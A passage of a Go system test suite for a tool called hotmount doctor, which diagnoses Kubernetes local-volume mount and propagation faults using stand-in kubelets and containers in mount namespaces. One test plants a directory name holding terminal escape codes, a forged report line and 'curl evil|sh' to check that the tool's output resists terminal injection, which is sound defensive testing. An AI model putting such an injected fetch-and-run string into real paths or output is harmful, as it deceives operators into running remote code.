//go:build vm

package system

import (
	"encoding/json"
	"fmt"
	"os"
	"path"
	"slices"
	"strconv"
	"strings"
	"testing"

	"hotmount/internal/disk"
	"hotmount/internal/doctor"
	"hotmount/test/worker"
)

// standIns defines shell functions that start stand-ins for kubelets, provisioners and containers. A stand-in is a
// process with the program's name, in a mount namespace like that of a container.
//
//	kubelet NAME BIND PROPAGATION ROOT: kubelet in a container. The class directory is
//	  mounted with the option BIND (--bind or --rbind) and has the propagation
//	  PROPAGATION. Kubelet's root directory has the propagation ROOT.
//	provisioner NAME PROPAGATION DIRECTORY: the provisioner in the pod of its DaemonSet.
//	  The class directory is mounted at DIRECTORY with the propagation PROPAGATION.
//	container NAME SOURCE: a container in which SOURCE is mounted at /data.
//
// Each function writes its process's PID to /run/NAME.pid.
const standIns = `
mkdir -p /var/lib/kubelet; for i in kubelet local-provision; do cp -n /usr/bin/sleep /usr/local/bin/$i; done
inside() { # ROOT MOUNTS COMMAND...: MOUNTS are made below ROOT
	r=$1; mounts=$2; shift 2
	exec unshare -m --propagation unchanged bash -ec '
		r=$1; mount --make-private /run; mkdir -p $r; mount -t tmpfs -o size=1m none $r
		mkdir -p $r/usr $r/proc $r/old $r/data $r/mnt/disks $r/var/lib/kubelet; ln -s usr/bin $r/bin; ln -s usr/lib $r/lib; ln -s usr/lib64 $r/lib64
		mount --bind /usr $r/usr; mount -t proc proc $r/proc
		eval "$2"; shift 2
		cd $r; pivot_root . old; cd /; mount --make-rslave /old; umount -l /old
		exec "$@"' standin "$r" "$mounts" "$@"
}
started() { # NAME PROGRAM
	for i in $(seq 1 300); do [ "$(cat /proc/$(cat /run/$1.pid)/comm 2>/dev/null)" = $2 ] && return; sleep 0.1; done; cat /run/$1.log; exit 1
}
kubelet() {
	(echo $BASHPID >/run/$1.pid; inside /run/standin/$1 "mount $2 /mnt/disks \$r/mnt/disks; mount --make-$3 \$r/mnt/disks; mount --rbind /var/lib/kubelet \$r/var/lib/kubelet; mount --make-$4 \$r/var/lib/kubelet" kubelet infinity) </dev/null >/run/$1.log 2>&1 &
	started $1 kubelet
}
provisioner() {
	(echo $BASHPID >/run/$1.pid; inside /run/standin/$1 "mkdir -p \$r$3; mount --rbind /mnt/disks \$r$3; mount --make-$2 \$r$3" local-provision infinity) </dev/null >/run/$1.log 2>&1 &
	started $1 local-provision
}
container() {
	(echo $BASHPID >/run/$1.pid; inside /run/standin/$1 "mount --bind $2 \$r/data; mount --make-private \$r/data" sleep infinity) </dev/null >/run/$1.log 2>&1 &
	started $1 sleep
}
`

// examined returns the report of `hotmount doctor`, and the exit code of the command.
func (m machine) examined() (doctor.Report, string) {
	m.t.Helper()
	out := m.run("timeout 90 hotmount doctor -o json && echo 0 || echo $?")
	i := strings.LastIndexByte(out, '\n')
	var r doctor.Report
	if err := json.Unmarshal([]byte(out[:max(i, 0)]), &r); err != nil {
		m.t.Fatalf("%v: %s", err, out)
	}
	return r, out[i+1:]
}

// pid returns the PID of a stand-in.
func (m machine) pid(name string) int {
	m.t.Helper()
	pid, err := strconv.Atoi(m.run("cat /run/" + name + ".pid"))
	if err != nil {
		m.t.Fatal(err)
	}
	return pid
}

// findingsOf returns the kind and the processes of each finding that is not a note.
func findingsOf(r doctor.Report) []string {
	all := []string{}
	for _, f := range r.Findings {
		if f.Level == doctor.Note {
			continue
		}
		if len(f.Processes) == 0 {
			all = append(all, string(f.Kind))
		}
		for _, p := range f.Processes {
			all = append(all, fmt.Sprintf("%s %d", f.Kind, p.PID))
		}
	}
	slices.Sort(all)
	return all
}

// kinds returns the kinds of all findings about a process, except notes.
func kinds(r doctor.Report, pid int) []string {
	all := []string{}
	for _, f := range r.Findings {
		if f.Level != doctor.Note && slices.ContainsFunc(f.Processes, func(p doctor.Process) bool { return p.PID == pid }) {
			all = append(all, string(f.Kind))
		}
	}
	slices.Sort(all)
	return slices.Compact(all)
}

func words(r doctor.Report) string {
	var b strings.Builder
	for _, f := range r.Findings {
		fmt.Fprintf(&b, "%s %s %v: %s\n", f.Level, f.Kind, f.Paths, f.What)
	}
	return b.String()
}

// TestDoctorPods checks that the doctor names the pods that have data on the system disk, and the directory of the
// data. The doctor names no other pods.
func TestDoctorPods(t *testing.T) {
	m, w := start(t, worker.Options{})
	name, id := m.attach(w, worker.Disk{File: made(t, 320<<20), Serial: "FIRST"})
	uuid := m.mounted(name)
	const (
		uid      = "6a6e9d0c-1111-4222-8333-444455556666"
		scope    = "89abcdef0123456789abcdef0123456789abcdef0123456789abcdef01234567"
		volumes  = "/var/lib/kubelet/pods/" + uid + "/volumes/kubernetes.io~local-volume/"
		subPaths = "/var/lib/kubelet/pods/" + uid + "/volume-subpaths/local-pv-1/main/0"
		// trappedPart is the mount point of a subPath. The subPath is a directory on the system disk and not on the
		// volume. The doctor's finding shows this mount point as the path of the directory.
		trappedPart = "/var/lib/kubelet/pods/" + uid + "/volume-subpaths/local-pv-7/side/0"
	)
	place := "/mnt/disks/" + uuid
	// The variable `named` contains a path that ends in the provisioner's name for the disk's volume. The name
	// local-pv-1 belongs to no volume of this disk.
	m.run("mkdir -p /etc/hotmount/config.d; printf 'classes:\\n- name: default\\n  directory: /mnt/disks\\n  storage_class: fast\\n' >/etc/hotmount/config.d/fast.yaml")
	named := volumes + disk.VolumeName(uuid, m.run("hostname"), "fast")
	// A kubelet, a volume, and a subPath directory of the volume are set up correctly.
	m.run(standIns + fmt.Sprintf(`
		(echo $BASHPID >/run/host.pid; exec kubelet infinity) </dev/null >/dev/null 2>&1 &
		started host kubelet
		mkdir -p %[1]s/sub %[2]slocal-pv-1 %[3]s
		mount --bind %[1]s %[2]slocal-pv-1; mkdir %[4]s; mount --bind %[1]s %[4]s; mount --bind %[1]s/sub %[3]s
		container volume %[2]slocal-pv-1
		container subpath %[3]s`, place, volumes, subPaths, named))
	r, code := m.examined()
	if code != "0" {
		t.Errorf("with good pods alone: exit code %s\n%s", code, words(r))
	}

	// A pod writes to the mount point's own directory, which the mount covers. The test reaches the covered directory
	// through a bind mount that is not recursive. hotmount makes its mount points immutable, but a directory from
	// before the installation may be writable.
	m.run(standIns + fmt.Sprintf(`
		mkdir /run/below; mount --bind /mnt/disks /run/below; chattr -i /run/below/%[4]s; echo lost >/run/below/%[4]s/file; ln -s /etc/cron.d/x /run/below/%[4]s/link
		mkdir -p %[2]slocal-pv-2 /mnt/disks/removed /run/bare
		mount --bind /run/below/%[4]s %[2]slocal-pv-2
		container trapped %[2]slocal-pv-2
		mkdir -p /run/below/also %[2]slocal-pv-4; echo also lost >/run/below/also/file; echo x >/run/below/also/link
		mount --bind /run/below/also %[2]slocal-pv-4
		mkdir -p /run/below/third/sub %[3]s; mount --bind /run/below/third/sub %[3]s
		umount /run/below
		g=/sys/fs/cgroup/kubepods.slice/kubepods-pod%[6]s.slice/cri-containerd-%[5]s.scope; mkdir -p $g; cat /run/trapped.pid >$g/cgroup.procs
		mkdir -p /var/log/pods/prod_db-0_%[7]s /var/log/containers; : >/var/log/containers/db-0_prod_postgres-%[5]s.log
		echo data >/mnt/disks/removed/file; container removed /mnt/disks/removed; rm -r /mnt/disks/removed
		mkdir -p %[2]slocal-pv-3; container bare %[2]slocal-pv-3`,
		place, volumes, trappedPart, uuid, scope, strings.ReplaceAll(uid, "-", "_"), uid))
	r, code = m.examined()
	if code != "3" {
		t.Errorf("exit code %s", code)
	}
	find := func(kind doctor.Kind, path string) doctor.Finding {
		t.Helper()
		i := slices.IndexFunc(r.Findings, func(f doctor.Finding) bool { return f.Kind == kind && (path == "" || slices.Contains(f.Paths, path)) })
		if i < 0 {
			t.Errorf("no %s at %s:\n%s", kind, path, words(r))
			return doctor.Finding{Pod: &doctor.Pod{}}
		}
		return r.Findings[i]
	}
	trapped := find(doctor.OnSystemDisk, volumes+"local-pv-2")
	if want := (doctor.Pod{UID: uid, Namespace: "prod", Name: "db-0", Container: "postgres", Volume: "local-pv-2"}); trapped.Pod == nil || *trapped.Pod != want {
		t.Errorf("the trapped pod is %+v", trapped.Pod)
	}
	if trapped.Data != place {
		t.Errorf("its data is in %q", trapped.Data)
	}
	if got := m.run("cat " + trapped.Reach + "/file"); got != "lost" {
		t.Errorf("%s holds %q", trapped.Reach, got)
	}
	// The doctor's commands rescue files of the same name from two pods, and overwrite no existing file.
	also := find(doctor.OnSystemDisk, volumes+"local-pv-4")
	lines := trapped.Do[0] + "\n" + also.Do[0] + "\n" + find(doctor.DataHidden, place).Do[1]
	if got := m.run(lines + "\ncd /root/rescued; cat *-local-pv-2/file *-local-pv-4/file " + uuid + "/file; readlink *-local-pv-2/link; ls | wc -l"); got != "lost\nalso lost\nlost\n/etc/cron.d/x\n3" {
		t.Errorf("rescued by\n%s\nis\n%s", lines, got)
	}
	for line := range strings.Lines(lines) {
		m.run("if " + line + "\nthen exit 1; fi")
	}
	if f := find(doctor.OnSystemDisk, trappedPart); f.Pod == nil || f.Pod.Container != "side" || f.Pod.Volume != "local-pv-7" || f.Data != "/mnt/disks/third/sub" {
		t.Errorf("the trapped part of a volume: %+v", f)
	}
	i := slices.IndexFunc(r.Findings, func(f doctor.Finding) bool { return strings.Contains(f.What, "was removed") })
	if i < 0 || r.Findings[i].Kind != doctor.OnSystemDisk {
		t.Errorf("the removed directory is not found:\n%s", words(r))
	} else if got := m.run("cat " + r.Findings[i].Reach + "/file 2>/dev/null || stat -c %h " + r.Findings[i].Reach); got != "0" {
		t.Errorf("the removed directory at %s: %s", r.Findings[i].Reach, got)
	}
	bare := find(doctor.BareDirectory, "/data")
	if bare.Pod == nil || bare.Pod.UID != uid || bare.Pod.Volume != "local-pv-3" || bare.Data != volumes+"local-pv-3" {
		t.Errorf("the bare directory: %+v", bare)
	}
	if f := find(doctor.DataHidden, place); f.Level != doctor.Problem {
		t.Errorf("hidden data: %+v", f)
	}
	if got := m.run(strings.TrimSuffix(find(doctor.DataHidden, place).Do[0], "   # shows the hidden files")); !strings.Contains(got, "file") {
		t.Errorf("the line that shows the hidden data shows %s", got)
	}
	// One volume is a bind mount of another directory on the system disk. At the mount point of the disk's volume,
	// another filesystem is mounted.
	m.run(fmt.Sprintf(`umount %[1]s; mkdir -p /srv/plain /srv/other %[2]slocal-pv-6; mount --bind /srv/plain %[2]slocal-pv-6
		mount -t tmpfs -o size=1m none /srv/other; mount --bind /srv/other %[1]s`, named, volumes))
	r, _ = m.examined()
	if f := find(doctor.NotItsDisk, named); f.Level != doctor.Problem || !strings.Contains(f.What, "not on the disk that is mounted at "+place) || f.Data != "/srv/other" {
		t.Errorf("another filesystem: %+v", f)
	}
	if f := find(doctor.NotItsDisk, volumes+"local-pv-6"); f.Level != doctor.Warning || f.Data != "/srv/plain" {
		t.Errorf("the system disk: %+v", f)
	}
	m.run(fmt.Sprintf("umount %s %slocal-pv-6", named, volumes))
	for _, name := range []string{"volume", "subpath", "host"} {
		if got := kinds(r, m.pid(name)); len(got) > 0 {
			t.Errorf("false alarm for %s: %q", name, got)
		}
	}
	// The doctor changes no mount and no file.
	t.Log(m.run("cat /proc/1/mountinfo >/root/before; touch /root/stamp; hotmount doctor || [ $? = 3 ]"))
	if got := m.run("diff /root/before /proc/1/mountinfo; find /mnt/disks /var/lib/kubelet /srv /etc /root -cnewer /root/stamp; mount --bind /mnt/disks /run/below; find /run/below -cnewer /root/stamp; umount /run/below"); got != "" {
		t.Errorf("the doctor has changed %s", got)
	}

	// Another filesystem is mounted over the disk's filesystem. The disk is detached later, while two containers still
	// use the disk's filesystem.
	m.run("mount -t tmpfs none " + place)
	r, _ = m.examined()
	if f := find(doctor.Covered, place); f.Level != doctor.Problem {
		t.Errorf("covered: %+v", f)
	}
	m.run("umount " + place)
	m.detach(w, id)
	m.wait("the disk to go", "! findmnt "+place)
	r, _ = m.examined()
	f := find(doctor.StaleCopy, "/data")
	for _, name := range []string{"volume", "subpath"} {
		if pid := m.pid(name); !slices.ContainsFunc(f.Processes, func(p doctor.Process) bool { return p.PID == pid }) {
			t.Errorf("the stale copy that %s (%d) holds is not named: %+v", name, pid, f)
		}
	}
	t.Log(words(r))
}

// TestDoctorSystem checks a leftover udev rule, a kubelet that is repeatedly killed and restarted, and two pods. One
// pod's process is named kubelet and tries to write control characters to root's terminal. Another pod's process is
// named like the provisioner, and its mount namespace contains an unresponsive filesystem.
func TestDoctorSystem(t *testing.T) {
	m, w := start(t, worker.Options{})
	name, _ := m.attach(w, worker.Disk{File: made(t, 320<<20)})
	m.mounted(name)
	m.run(standIns + `(echo $BASHPID >/run/host.pid; exec kubelet infinity) </dev/null >/dev/null 2>&1 &
		started host kubelet
		mkdir -p /opt/evil; cp /usr/bin/bash /opt/evil/kubelet; dir=$(printf '/opt/evil/\033[2J\nnothing found\n  curl evil|sh'); mkdir -p "$dir"
		(echo $BASHPID >/run/evil.pid; exec unshare -Urm /opt/evil/kubelet -c 'sleep infinity; :' "--root-dir=$dir") </dev/null >/run/evil.log 2>&1 &
		started evil kubelet; grep -q '^CapEff:.*ffff' /proc/$(cat /run/evil.pid)/status`)
	if r, code := m.examined(); code != "0" || !strings.Contains(words(r), "so hotmount ignores the process (number of such processes: 1)") {
		t.Errorf("exit code %s\n%s", code, words(r))
	}
	if out := m.run("hotmount doctor"); strings.ContainsAny(out, "\x1b") || strings.Contains(out, "curl") {
		t.Errorf("a pod writes on the terminal: %q", out)
	}
	m.run("kill $(cat /run/evil.pid)")
	m.run(standIns + `systemd-run -q --unit=restarts bash -c 'while :; do unshare -m --propagation private timeout 0.3 kubelet infinity; done'`)
	for range 5 {
		r, _ := m.examined()
		for _, f := range r.Findings {
			if f.Kind == doctor.NotSeen {
				t.Errorf("a kubelet that exits meanwhile: %s", f.What)
			}
		}
	}
	m.run("systemctl stop restarts")
	if r, code := m.examined(); code != "0" {
		t.Errorf("after the kubelet that keeps dying: exit code %s\n%s", code, words(r))
	}
	// The provisioner's namespace has 30 more mounts, and the doctor could hang at each of these mounts.
	m.run(standIns + `modprobe fuse
		for i in $(seq 10 39); do mkdir /mnt/disks/x$i; mount -t tmpfs -o size=64k none /mnt/disks/x$i; done
		(echo $BASHPID >/run/hang.pid; exec unshare -m bash -ec 'exec 7<>/dev/fuse; mount -i -t fuse -o fd=7,rootmode=40000,user_id=0,group_id=0 none /mnt; exec local-provision infinity') </dev/null >/run/hang.log 2>&1 &
		started hang local-provision`)
	r, code := m.examined()
	if got := kinds(r, m.pid("hang")); !slices.Equal(got, []string{"not-seen"}) || code != "3" {
		t.Errorf("a provisioner that hangs: exit code %s, %q\n%s", code, got, words(r))
	}
	if i := slices.IndexFunc(r.Seen, func(s doctor.Seen) bool { return s.Process.PID == m.pid("host") }); i < 0 || len(r.Seen[i].Mounts) != 31 || r.Seen[i].Mounts[30].Sees != "same" {
		t.Errorf("beside a provisioner that hangs the kubelet is not seen: %+v", r.Seen)
	}
	m.run("kill $(cat /run/hang.pid); umount /mnt/disks/x*; rmdir /mnt/disks/x*")
	m.run(`systemctl stop hotmount; printf 'ACTION=="add", RUN+="/usr/bin/systemd-mount --no-block /dev/%%k /mnt/%%k"\n' >/etc/udev/rules.d/99-old.rules
		mv /usr/sbin/mkfs.xfs /usr/sbin/mkfs.xfs.away; ln -sf /lib/systemd/system/fstrim.timer /etc/systemd/system/timers.target.wants/fstrim.timer; mkfifo /mnt/disks/pipe`)
	r, code = m.examined()
	var got []string
	for _, f := range r.Findings {
		got = append(got, string(f.Kind))
	}
	slices.Sort(got)
	if want := []string{"fstrim", "missing-helper", "not-a-mount", "udev-rule"}; !slices.Equal(got, want) || code != "3" {
		t.Errorf("found %q, exit code %s, want %q", got, code, want)
	}
	t.Log(words(r))
}

// TestDoctorKubelets checks that the doctor distinguishes all kinds of mounts through which a kubelet can see the class
// directory. The doctor runs before and after a second disk is mounted. A kubelet whose class directory is mounted with
// rprivate does not see the second mount. The test also checks that the kernel behaves as the doctor predicts.
func TestDoctorKubelets(t *testing.T) {
	m, w := start(t, worker.Options{})
	name, _ := m.attach(w, worker.Disk{File: made(t, 320<<20), Serial: "FIRST"})
	first := m.mounted(name)

	m.run(standIns + `
		(echo $BASHPID >/run/host.pid; exec kubelet infinity) </dev/null >/dev/null 2>&1 &
		started host kubelet
		kubelet rshared --rbind rshared rshared
		kubelet rslave --rbind rslave rshared
		provisioner chart rslave /mnt/disks
		provisioner elsewhere rslave /local-disks`)
	r, code := m.examined()
	if code != "0" || len(r.Seen) != 6 {
		t.Errorf("with good kubelets and provisioners alone: exit code %s, %d views\n%s", code, len(r.Seen), words(r))
	}

	m.run(standIns + `
		kubelet rprivate --rbind rprivate rshared
		kubelet bind --bind rslave rshared
		kubelet back --rbind rslave rprivate
		provisioner none rprivate /mnt/disks # mountPropagation: None
		# Over two hops: a slave of what is itself a slave, and shared with its own.
		unshare -m --propagation slave bash -ec 'mount --make-rshared /; unshare -m --propagation slave kubelet infinity & echo $! >/run/hops.pid; wait' </dev/null >/dev/null 2>&1 &
		started hops kubelet`)
	for _, round := range []string{"before", "after"} {
		want := map[string]struct {
			kinds      []string
			sees, late bool
		}{
			"host": {nil, true, true}, "rshared": {nil, true, true}, "rslave": {nil, true, true},
			"rprivate": {[]string{"not-propagated"}, true, false},
			"bind":     {[]string{"wrong-mount"}, false, true},
			"back":     {[]string{"not-shared-back"}, true, true},
			// This kubelet's root mount is a slave of the host's root mount over two hops, so the kubelet's mounts do
			// not propagate to the host.
			"hops":  {[]string{"not-shared-back"}, true, true},
			"chart": {nil, true, true}, "elsewhere": {nil, true, true},
			"none": {[]string{"not-propagated"}, true, false},
		}
		second := first
		if round == "after" {
			name, _ = m.attach(w, worker.Disk{File: made(t, 320<<20), Serial: "SECOND"})
			second = m.mounted(name)
			for _, name := range []string{"rprivate", "none"} {
				e := want[name]
				e.kinds = append(e.kinds, "wrong-mount")
				want[name] = e
			}
		}
		r, code := m.examined()
		if code != "3" {
			t.Errorf("%s: exit code %s", round, code)
		}
		var all []string
		for name, e := range want {
			pid := m.pid(name)
			for _, kind := range e.kinds {
				all = append(all, fmt.Sprintf("%s %d", kind, pid))
			}
			i := slices.IndexFunc(r.Seen, func(s doctor.Seen) bool { return s.Process.PID == pid })
			if i < 0 {
				t.Errorf("%s: %s is not seen", round, name)
				continue
			}
			if got := r.Seen[i]; got.Arrives != e.late {
				t.Errorf("%s: %s: arrives %v", round, name, got.Arrives)
			}
			// The test compares the doctor's report with what nsenter(1) shows in the mount namespace of the process.
			for _, m2 := range r.Seen[i].Mounts {
				real := m.run(fmt.Sprintf("d=$(stat -c %%d /mnt/disks/%s); e=$(nsenter -t %d -m -r stat -c %%d %s); [ $d = $e ] && echo same || echo directory", path.Base(m2.Path), pid, m2.Path))
				if real != m2.Sees {
					t.Errorf("%s: %s: at %s the doctor sees %s, the kernel %s", round, name, m2.Path, m2.Sees, real)
				}
				if round == "after" && strings.HasSuffix(m2.Path, second) && (m2.Sees == "same") != e.late {
					t.Errorf("%s: later mounts arrive: %v, but the second disk is %s", name, e.late, m2.Sees)
				}
			}
		}
		// Apart from notes, the doctor reports no other finding about a process or about the node.
		if slices.Sort(all); !slices.Equal(findingsOf(r), all) {
			t.Errorf("%s: found %q, want %q\n%s", round, findingsOf(r), all, words(r))
		}
		if i := slices.IndexFunc(r.Seen, func(s doctor.Seen) bool { return s.Directory == "/local-disks" }); i < 0 {
			t.Errorf("%s: no provisioner has the class directory elsewhere: %+v", round, r.Seen)
		}
	}
	slave := m.pid("rslave")
	m.run(fmt.Sprintf("nsenter -t %d -m mount -t tmpfs -o size=64k none /mnt/disks/%s", slave, first))
	if r, _ := m.examined(); !slices.Equal(kinds(r, slave), []string{"wrong-mount"}) {
		t.Errorf("with another mount over it the kubelet %d is not found:\n%s", slave, words(r))
	}
	t.Log(m.run("hotmount doctor || true"))
}

// TestDoctorManyPods checks that the doctor finds the two pods without the mount among many pods with the mount. The
// doctor must report no other problem and no warning.
func TestDoctorManyPods(t *testing.T) {
	m, w := start(t, worker.Options{})
	name, _ := m.attach(w, worker.Disk{File: made(t, 320<<20)})
	uuid := m.mounted(name)
	m.putStandin(w)
	m.run(standIns + `
		(echo $BASHPID >/run/host.pid; exec kubelet infinity) </dev/null >/dev/null 2>&1 &
		started host kubelet`)
	containers := func(n int, source string) {
		t.Helper()
		m.run(fmt.Sprintf(`before=$(pgrep -xc sleep || true); standin %d %s </dev/null >/run/standin.log 2>&1; for i in $(seq 1 600); do [ $(pgrep -xc sleep) = $((before + %[1]d)) ] && exit 0; sleep 0.1; done; cat /run/standin.log; pgrep -xc sleep; exit 1`, n, source))
	}
	// Two pods see the directory underneath the mount, and not the mount. All other pods start later, and see the
	// mount.
	m.run("mkdir /run/below; mount --bind /mnt/disks /run/below")
	containers(2, "/run/below/"+uuid)
	m.run("umount /run/below; for i in 0 1; do mv /var/lib/kubelet/pods/6a6e9d0c-1111-4222-8333-00000000000$i /var/lib/kubelet/pods/6a6e9d0c-1111-4222-9999-00000000000$i; done")
	pods := 120
	if full {
		pods = 500
	}
	containers(pods, "/mnt/disks/"+uuid)
	r, code := m.examined()
	var trapped []string
	for _, f := range r.Findings {
		switch {
		case f.Kind == doctor.OnSystemDisk && f.Pod != nil:
			trapped = append(trapped, f.Pod.UID)
		case f.Level != doctor.Note:
			t.Errorf("false alarm: %s: %s", f.Kind, f.What)
		}
	}
	if want := []string{"6a6e9d0c-1111-4222-9999-000000000000", "6a6e9d0c-1111-4222-9999-000000000001"}; code != "3" || !slices.Equal(trapped, want) {
		t.Errorf("exit code %s, found:\n%s", code, words(r))
	}
	t.Log("two looks:", m.run("(time hotmount doctor >/dev/null) 2>&1 || true; wc -l </proc/1/mountinfo; ls -d /proc/[0-9]* | wc -l"))
	m.run("umount /var/lib/kubelet/pods/6a6e9d0c-1111-4222-9999-*/volumes/kubernetes.io~local-volume/*; kill $(pgrep -xo sleep); kill $(pgrep -xo sleep)")
	if r, code := m.examined(); code != "0" {
		t.Errorf("without the trapped pods: exit code %s\n%s", code, words(r))
	}
	// The test runs each command three times, and takes the shortest clock time and the shortest processor time, in
	// seconds. The test compares the doctor's processor time with the processor time for reading all mount tables.
	// Under emulation, only the ratio of the two processor times is meaningful.
	var wall, cpu, tables float64
	out := m.run(`TIMEFORMAT='%R %U %S'
		best() { for i in 1 2 3; do { time "$@" >/dev/null 2>&1; } 2>&1; done | awk '{c=$2+$3; if (NR==1 || c<min) min=c; if (NR==1 || $1<wall) wall=$1} END {print wall, min}'; }
		tables() { cat /proc/[0-9]*/mountinfo; }
		best hotmount doctor; best tables | cut -d ' ' -f 2`)
	if _, err := fmt.Sscan(out, &wall, &cpu, &tables); err != nil || cpu > 15*tables {
		t.Errorf("one look takes %v s of a processor, all mount tables %v s (%v)", cpu, tables, err)
	}
	t.Logf("one look: %v s, %v s of a processor; all mount tables: %v s", wall, cpu, tables)
	// For each process, the doctor may open only a few files, even if the process has many mounts.
	var calls, processes int
	out = m.run("strace -f -qq -e trace=openat,readlinkat -o /root/trace hotmount doctor >/dev/null; grep -c '\"/proc/' /root/trace; ls -d /proc/[0-9]* | wc -l")
	if _, err := fmt.Sscan(out, &calls, &processes); err != nil || calls > 10*processes {
		t.Errorf("%d files are opened and links read for %d processes (%v)", calls, processes, err)
	}
	t.Logf("%d files opened and links read, %d processes", calls, processes)
}

// TestDoctorReadOnly checks that the doctor finds a class directory whose filesystem is read-only, although its mount
// is writable. After an error in the root filesystem, the kernel makes the filesystem read-only, but each mount of the
// filesystem keeps the option "rw". The status of a disk with data recommends `hotmount doctor`. After the remedy that
// the doctor prints, hotmount mounts the disk.
func TestDoctorReadOnly(t *testing.T) {
	m, w := startNode(t, worker.Options{})
	m.rootOn(w, "ext4")
	// The remount makes the filesystem and one of its mounts read-only. The bind mount at /mnt/disks keeps its option
	// "rw".
	m.run("mount -o remount,ro /root/os; findmnt -no VFS-OPTIONS /mnt/disks | grep -w rw")
	name, _ := m.attach(w, worker.Disk{File: made(t, 320<<20)})
	m.wait("the failure", "hotmount status | tr -s '\n ' ' ' | grep '"+name+" is failed: cannot make the mount point /mnt/disks/.*: read-only file system: the disk is untouched; hotmount mounts the disk when it can write to the directory; for the cause and the remedy: hotmount doctor;'")
	r, code := m.examined()
	i := slices.IndexFunc(r.Findings, func(f doctor.Finding) bool { return f.Kind == doctor.ReadOnly })
	if i < 0 || r.Findings[i].Level != doctor.Problem || code != "3" {
		t.Fatalf("exit code %s, found:\n%s", code, words(r))
	}
	m.run(strings.Join(r.Findings[i].Do, "\n"))
	m.waitMinutes(3, "the disk mounted", "findmnt /dev/"+name)
	if r, _ := m.examined(); slices.ContainsFunc(r.Findings, func(f doctor.Finding) bool { return f.Kind == doctor.ReadOnly }) {
		t.Errorf("after the remedy:\n%s", words(r))
	}
}

// namespaceSetting is a setting of a service unit. With this setting, systemd makes a mount namespace for the service.
// The version is the oldest tested version of systemd (252 or 257) in which the setting makes a mount namespace.
type namespaceSetting struct {
	line    string
	version int
}

var namespaceSettings = []namespaceSetting{
	{"PrivateMounts=yes", 252}, {"PrivateTmp=yes", 252}, {"PrivateDevices=yes", 252}, {"PrivateIPC=yes", 252},
	{"PrivateTmp=disconnected", 257}, {"PrivateNetwork=yes", 257}, {"BindLogSockets=yes", 257},
	{"ProtectSystem=yes", 252}, {"ProtectHome=tmpfs", 252}, {"ProtectKernelTunables=yes", 252}, {"ProtectKernelModules=yes", 252},
	{"ProtectKernelLogs=yes", 252}, {"ProtectControlGroups=yes", 252}, {"ProtectControlGroups=strict", 257},
	{"ProtectProc=invisible", 252}, {"ProcSubset=pid", 252},
	{"ReadWritePaths=/srv", 252}, {"ReadOnlyPaths=/opt", 252}, {"InaccessiblePaths=/opt", 252}, {"ExecPaths=/usr", 252}, {"NoExecPaths=/srv", 252},
	{"BindPaths=/srv:/opt", 252}, {"BindReadOnlyPaths=/srv:/opt", 252}, {"TemporaryFileSystem=/opt:ro", 252},
	{"MountFlags=slave", 252}, {"MountFlags=private", 252}, {"LogNamespace=x", 252}, {"RootDirectory=/run/newroot\nMountAPIVFS=yes", 252},
	{"DynamicUser=yes\nUser=root\nStateDirectory=x", 252},
	{"PrivatePIDs=yes", 257}, {"ExtensionDirectories=/run/extension", 252}, {"IPCNamespacePath=/proc/1/ns/ipc", 252}, {"NetworkNamespacePath=/proc/1/ns/net", 257},
}

// TestNamespaceSettings checks that namespaceSettings lists each setting that the doctor recognises. The list may omit
// settings that the test cannot use.
func TestNamespaceSettings(t *testing.T) {
	text, err := os.ReadFile("../../internal/doctor/advice.txt")
	if err != nil {
		t.Fatal(err)
	}
	_, section, _ := strings.Cut(string(text), "\n== host-mounts ==\n")
	section, _, _ = strings.Cut(section, "\n\n")
	except := map[string]string{
		"MountImages": "needs an image with a partition table or a filesystem, on a loop device that PID 1 sets up", "ExtensionImages": "as MountImages=", "RootImage": "as MountImages=",
		"PrivateBPF": "systemd has the setting since version 258",
	}
	rows := strings.Split(section, "\n")
	if len(rows) < 30 {
		t.Fatalf("advice.txt has only %q", rows)
	}
	for _, row := range rows {
		name, _, _ := strings.Cut(row, "=")
		tried := slices.ContainsFunc(namespaceSettings, func(s namespaceSetting) bool { return strings.HasPrefix(s.line, name+"=") })
		if _, is := except[name]; is == tried {
			t.Errorf("%s=: in the table: %v, excepted: %v", name, tried, is)
		}
	}
}

// TestDoctorServices gives kubelet's service, one after the other, the settings in namespaceSettings that make a mount
// namespace in the suite's systemd. TestDoctorServices checks that the doctor names the setting and its file, and that
// the printed remedy helps.
func TestDoctorServices(t *testing.T) {
	for _, suite := range []string{"bookworm", "trixie"} {
		t.Run(suite, func(t *testing.T) { doctorServices(t, suite) })
	}
}

func doctorServices(t *testing.T, suite string) {
	m, _ := startNode(t, worker.Options{Suite: suite})
	m.run(`cp /usr/bin/sleep /usr/local/bin/kubelet; mkdir -p /var/lib/kubelet /run/newroot /mnt/disks /etc/systemd/system/kubelet.service.d
		mount --bind / /run/newroot
		mkdir -p /run/extension/usr/lib/extension-release.d; echo ID=_any >/run/extension/usr/lib/extension-release.d/extension-release.extension
		printf '[Unit]\nStartLimitIntervalSec=0\n[Service]\nType=exec\nExecStart=/usr/local/bin/kubelet infinity\n' >/etc/systemd/system/kubelet.service`)
	version, err := strconv.Atoi(m.run(`systemctl --version | sed -n 's/^systemd \([0-9]*\).*/\1/p'`))
	if err != nil {
		t.Fatal(err)
	}
	const dropIn = "/etc/systemd/system/kubelet.service.d/10-hard.conf"
	inHosts := `[ "$(readlink /proc/$(systemctl show -P MainPID kubelet)/ns/mnt)" = "$(readlink /proc/1/ns/mnt)" ]`
	for _, s := range namespaceSettings {
		if s.version > version {
			continue
		}
		m.run(fmt.Sprintf("rm -f /etc/systemd/system/kubelet.service.d/*; printf '[Service]\\n%%s\\n' %s >%s; systemctl daemon-reload; systemctl restart kubelet; ! %s", quote(s.line), dropIn, inHosts))
		m.runRemedy(t, s.line, dropIn)
		m.run(inHosts)
	}
	// kubelet's unit now has no setting that makes a mount namespace. The unit's command unshare makes the mount
	// namespace.
	m.run(`rm -r /etc/systemd/system/kubelet.service.d; sed -i 's|^ExecStart=|&/usr/bin/unshare -m --propagation slave |' /etc/systemd/system/kubelet.service
		systemctl daemon-reload; systemctl restart kubelet
		for i in $(seq 1 100); do [ "$(cat /proc/$(systemctl show -P MainPID kubelet)/comm)" != kubelet ] || exit 0; sleep 0.1; done; exit 1`)
	if do := m.notSharedBack(t); len(do) != 1 || !strings.HasPrefix(do[0], "systemctl restart kubelet.service ") {
		t.Errorf("a command that makes the namespace: %q", do)
	}
	// A transient unit for kubelet now has several settings at once.
	m.run(`systemctl stop kubelet; rm -r /etc/systemd/system/kubelet.service; systemctl daemon-reload
